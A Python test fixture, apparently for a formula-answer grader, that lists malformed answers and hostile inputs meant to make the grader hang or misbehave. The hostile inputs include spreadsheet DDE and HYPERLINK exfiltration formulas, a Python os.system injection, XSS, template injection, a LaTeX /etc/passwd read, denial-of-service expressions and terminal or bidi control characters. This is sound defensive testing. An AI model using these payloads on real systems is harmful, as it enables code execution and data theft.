"""Answers that are no formula, or an attack: none of them may earn anything, and none may hang.

Each is open: the grader can read nothing in it, and a person decides.
"""

from __future__ import annotations

from random import Random

INVALID = (
    "(K + 1", "K + * 2", "2 +", "[[1, 2], [3", r"\frac{1}{", "))((", "K ** ** 2",
    "the same as in question 1", "نمی‌دانم", "I could not finish this one", "see my notebook",
    "рарам + 1",  # Cyrillic letters that look Latin
    "qq_undeclared*7 + zz_other", "kernels_count + 3*filters_count",
)  # fmt: skip
_MEGABYTE = "1+" * 500_000 + "1"
HOSTILE = (
    _MEGABYTE,
    "K" * 200_000,
    "(" * 5_000 + "1" + ")" * 5_000,
    r"\frac{1}{" * 3_000 + "1" + "}" * 3_000,
    "9^9^9^9^9",
    "((9^9)^9999)^9999",
    "factorial(factorial(factorial(99)))",
    "7" * 100_000,
    "K^2\x00*C_in",
    "C_in\u202e*K\u2066",
    "\x1b[2J\x1b[31mK",
    '=HYPERLINK("http://example.org/?x="&A1,"K")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "__import__('os').system('exit 1')",
    "<script>alert(1)</script>",
    "{{config.__class__}}",
    r"\input{/etc/passwd}",
    "\ud800",
    "::error file=a.py::broken%0A",
)


def invalid(rng: Random) -> str:
    """A text that says nothing which could be graded."""
    return rng.choice(INVALID)


def hostile(rng: Random) -> str:
    """A text that is meant to hurt."""
    return rng.choice(HOSTILE)
